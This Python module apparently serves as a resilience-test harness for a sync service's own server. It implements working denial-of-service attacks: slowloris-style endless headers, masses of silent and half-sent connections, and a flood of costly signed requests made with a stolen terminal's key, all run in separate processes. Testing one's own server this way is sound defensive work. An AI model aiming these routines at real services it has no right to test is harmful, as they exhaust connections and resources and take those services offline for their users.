"""The attacks, each an endless coroutine: it comes back as often as it is driven out.

They speak TLS and HTTP by hand: no client library would do what they do. None needs a key but
`evil`, which is a terminal in wrong hands.
"""

from __future__ import annotations

import asyncio
import itertools
import logging
import multiprocessing
import resource
import secrets
import ssl
from collections.abc import AsyncIterator, Awaitable, Callable, Coroutine, Iterator, Sequence
from contextlib import asynccontextmanager, contextmanager, suppress
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import cache
from multiprocessing.process import BaseProcess
from typing import Any

from sync.protocol.envelope.random_values import random_id
from sync.protocol.envelope.sealing import seal
from sync.protocol.envelope.signatures import SigningKey
from sync.protocol.signing import sign_request
from sync.protocol.wire import Question, RefreshRequest, ResultsBatch, SealedResult

SILENT = 2_000  # connections
HALF_BODIES = 1_000
REQUESTS_PER_S = 100
AT_ONCE = 50  # connections that one attack opens together
HEADER = b"x: " + b"a" * 1000 + b"\r\n"
HEADERS_PER_WRITE = 64
ENOUGH = 400 * 2**20  # bytes of headers on one connection
OLD_LIMIT, ENROL_LIMIT = 256 * 1024, 8 * 1024  # bytes of an enrolment, before and now
PIECE = 16 * 1024  # bytes of a body that are written at once
AGAIN_S = 0.05


@dataclass(frozen=True, slots=True)
class SiegeTarget:
    """Where the data centre answers, and what everybody can know of it."""

    host: str
    port: int
    terminal_id: str  # of a real terminal: its screen shows it
    source: str = ""  # the address to come from; "": whichever


@dataclass(frozen=True, slots=True)
class Evil:
    """What a thief of a terminal has."""

    centre_id: str
    terminal_id: str
    signing: bytes
    centre_key: bytes  # public, to which results and questions are sealed


@asynccontextmanager
async def connected(
    target: SiegeTarget, tls: bool = True
) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    """Yield a connection; without `tls` not even its handshake has begun. Raise OSError."""
    context = _context() if tls else None
    source = (target.source, 0) if target.source else None
    reader, writer = await asyncio.open_connection(
        target.host, target.port, ssl=context, local_addr=source
    )
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


@cache
def _context() -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


# Of a target, of a thief, and by what to multiply the number of connections.
Attack = Callable[[SiegeTarget, Evil, float], Coroutine[Any, Any, None]]


async def endless_headers(target: SiegeTarget, _evil: Evil, _scale: float) -> None:
    """Send headers on one connection, up to ENOUGH bytes; then again on the next one."""
    while True:
        with suppress(OSError):
            async with connected(target) as (_, writer):
                writer.write(b"GET / HTTP/1.1\r\n")
                for _ in range(ENOUGH // (len(HEADER) * HEADERS_PER_WRITE)):
                    writer.write(HEADER * HEADERS_PER_WRITE)
                    await writer.drain()
                await asyncio.sleep(3600)
        await asyncio.sleep(AGAIN_S)


async def silence(target: SiegeTarget, _evil: Evil, scale: float) -> None:
    """Hold so many connections that say nothing: half of them not even in TLS."""
    await _crowd(int(scale * SILENT), lambda number: _say_nothing(target, tls=number % 2 == 0))


async def half_bodies(target: SiegeTarget, _evil: Evil, scale: float) -> None:
    """Hold so many requests back by their last byte: enrolments, and results in another's name."""
    await _crowd(int(scale * HALF_BODIES), lambda number: _hold_back(target, number))


async def evil_terminal(target: SiegeTarget, evil: Evil, _scale: float) -> None:
    """Send so many well-signed requests a second: the dearest that there are, in turn."""
    key = SigningKey(evil.signing)
    waiting: asyncio.Queue[tuple[str, bytes]] = asyncio.Queue(AT_ONCE)

    async def connection() -> None:
        while True:
            with suppress(OSError, EOFError, asyncio.IncompleteReadError):
                async with connected(target) as (reader, writer):
                    while True:
                        path, body = await waiting.get()
                        writer.write(_signed(evil, key, path, body))
                        await writer.drain()
                        await _answered(reader)
            await asyncio.sleep(AGAIN_S)

    async with asyncio.TaskGroup() as group:
        for _ in range(AT_ONCE):
            group.create_task(connection())
        for request in dear_requests(evil):
            await waiting.put(request)
            await asyncio.sleep(1 / REQUESTS_PER_S)


def dear_requests(evil: Evil) -> Iterator[tuple[str, bytes]]:
    """Yield paths and bodies without end: results, questions, and refreshes unlike each other."""
    junk = tuple(
        SealedResult(
            result_id=random_id(), created_at=datetime.now(UTC), sealed=secrets.token_bytes(40_000)
        )
        for _ in range(100)
    )
    results = ResultsBatch(results=junk).to_json()
    for number in itertools.count():
        if number % 3 == 0:
            yield "/v1/results", results
        elif number % 3 == 1:
            question_id = random_id()
            context = f"question {question_id} {evil.terminal_id}"
            sealed = seal(secrets.token_bytes(1000), evil.centre_key, context)
            yield "/v1/questions", Question(question_id=question_id, sealed=sealed).to_json()
        else:
            held = tuple(random_id() for _ in range(4096))
            yield "/v1/refresh", RefreshRequest(metadata={}, packages=held).to_json()


def _signed(evil: Evil, key: SigningKey, path: str, body: bytes) -> bytes:
    now = datetime.now(UTC)
    headers, _ = sign_request("POST", path, body, key, evil.terminal_id, evil.centre_id, now)
    return _head(path, len(body), headers) + body


def _head(path: str, length: int, headers: dict[str, str]) -> bytes:
    lines = [f"POST {path} HTTP/1.1", "Host: centre", f"Content-Length: {length}"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    return "\r\n".join([*lines, "", ""]).encode()


async def _answered(reader: asyncio.StreamReader) -> None:
    head = (await reader.readuntil(b"\r\n\r\n")).lower()
    length = head.partition(b"content-length: ")[2].partition(b"\r\n")[0]
    await reader.readexactly(int(length or 0))
    if b"connection: close" in head:
        raise EOFError


async def _say_nothing(target: SiegeTarget, tls: bool) -> None:
    async with connected(target, tls) as (reader, _):
        await reader.read(1)


async def _hold_back(target: SiegeTarget, number: int) -> None:
    path, length = [
        ("/v1/enrol", OLD_LIMIT),
        ("/v1/enrol", ENROL_LIMIT),
        ("/v1/results", OLD_LIMIT),
    ][number % 3]
    named = random_id() if path == "/v1/enrol" else target.terminal_id
    headers = {
        "Signature-Input": f'gapura=("@method");created=1;keyid="{named}"',
        "Signature": "gapura=:AAAA:",
    }
    async with connected(target) as (reader, writer):
        writer.write(_head(path, length, headers))
        for start in range(0, length - 1, PIECE):
            writer.write(bytes(min(PIECE, length - 1 - start)))
            await writer.drain()
        while await reader.read(4096):
            pass


async def _crowd(count: int, one: Callable[[int], Awaitable[None]]) -> None:
    """Keep `count` of `one` alive, begun AT_ONCE at a time."""
    beginning = asyncio.Semaphore(AT_ONCE)

    async def again(number: int) -> None:
        while True:
            async with beginning:
                held = asyncio.ensure_future(one(number))
                await asyncio.sleep(AGAIN_S)
            with suppress(OSError, EOFError):
                await held
            await asyncio.sleep(AGAIN_S)

    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(again(number))


ATTACKS: dict[str, Attack] = {
    "headers": endless_headers,
    "silent": silence,
    "bodies": half_bodies,
    "evil": evil_terminal,
}


@contextmanager
def under_attack(
    names: Sequence[str], target: SiegeTarget, evil: Evil, scale: float = 1.0
) -> Iterator[Callable[[], None]]:
    """Run a process for each of ATTACKS that is named; yield what ends them before the block."""
    spawn = multiprocessing.get_context("spawn")
    running: list[BaseProcess] = [
        spawn.Process(target=_attack, args=(name, target, evil, scale), daemon=True)
        for name in names
    ]

    def stop() -> None:
        for process in running:
            process.kill()

    for process in running:
        process.start()
    try:
        yield stop
    finally:
        stop()
        for process in running:
            process.join()


def _attack(name: str, target: SiegeTarget, evil: Evil, scale: float) -> None:
    """Run as the main function of an attacker's process, until it is killed."""
    logging.disable()  # asyncio tells of each write after the end of a connection
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    asyncio.run(ATTACKS[name](target, evil, scale))
